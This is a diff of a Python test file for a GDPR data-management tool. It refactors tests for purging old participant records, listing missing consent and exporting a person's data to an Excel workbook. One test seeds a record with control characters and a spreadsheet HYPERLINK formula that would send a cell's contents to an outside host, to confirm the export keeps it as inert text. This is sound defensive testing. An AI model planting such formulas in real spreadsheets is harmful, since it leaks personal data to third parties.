@@ -63,14 +63,13 @@ def test_purge_preview_then_purge_leaves_only_an_anonymous_log(demo) -> None:
     with demo.read() as session:
         total = session.scalar(select(func.count()).select_from(Participant))
         latest = gdpr.last_contact_dates(session)
-        preview = gdpr.purge_candidates(session, today)
+        preview = gdpr.purge_candidates(demo, today)
         names = {(c.last_name, c.first_name) for c in preview}
     expected = {pid for pid, day in latest.items() if day < date(2011, 1, 15)}
     assert {c.participant_id for c in preview} == expected
     assert 0 < len(preview) < total  # the contract holders followed into 2011 stay
     # Ten years of retention: nobody yet.
-    with demo.read() as session:
-        assert gdpr.purge_candidates(session, today, years=10) == []
+    assert gdpr.purge_candidates(demo, today, years=10) == []
 
     with demo.write() as session:
         assert gdpr.purge(session, today) == len(preview)
@@ -79,7 +78,7 @@ def test_purge_preview_then_purge_leaves_only_an_anonymous_log(demo) -> None:
             preview
         )
         assert gdpr.remaining_rows(session, expected) == {}
-        assert gdpr.purge_candidates(session, today) == []
+        assert gdpr.purge_candidates(demo, today) == []
         event = session.execute(select(AuditEvent).where(AuditEvent.action == "purge")).scalar_one()
         assert event.count == len(preview)
         assert "2 ans" in event.detail
@@ -132,8 +131,7 @@ def test_access_workbook_holds_everything_about_one_person(tmp_path: Path, demo)
             .limit(1)
         ).one()
     out = tmp_path / "acces.xlsx"
-    with demo.write() as session:
-        records = write_access_workbook(session, person.id, out)
+    records = write_access_workbook(demo, person.id, out)
     assert records > 5
     assert [p.name for p in tmp_path.iterdir() if p.name != "demo.sqlite3" and
             not p.name.startswith("demo.sqlite3-")] == ["acces.xlsx"]
@@ -162,8 +160,7 @@ def test_missing_consent_is_listed(tmp_path: Path) -> None:
     ids = add_people(db, 3)
     with db.write() as session:
         session.get(Participant, ids[1]).consent_date = date(2010, 2, 12)
-    with db.read() as session:
-        missing = gdpr.missing_consent(session)
+    missing = gdpr.missing_consent(db)
     db.dispose()
     assert [m.participant_id for m in missing] == [ids[0], ids[2]]
 
@@ -179,8 +176,7 @@ def test_access_workbook_keeps_hostile_text_as_text_and_logs_only_the_id(
         person.notes = "appelée le 12\x07 puis\x1b relancée"
         person_id = person.id
     out = tmp_path / "acces-Dupont-Marie.xlsx"
-    with demo.write() as session:
-        write_access_workbook(session, person_id, out)
+    write_access_workbook(demo, person_id, out)
     book = openpyxl.load_workbook(out)
     identity = {row[0]: row[1] for row in book["Personne"].iter_rows(min_row=2, values_only=True)}
     assert identity["Nom"] == '=HYPERLINK("http://example.org/?x="&A1,"Cliquez")'
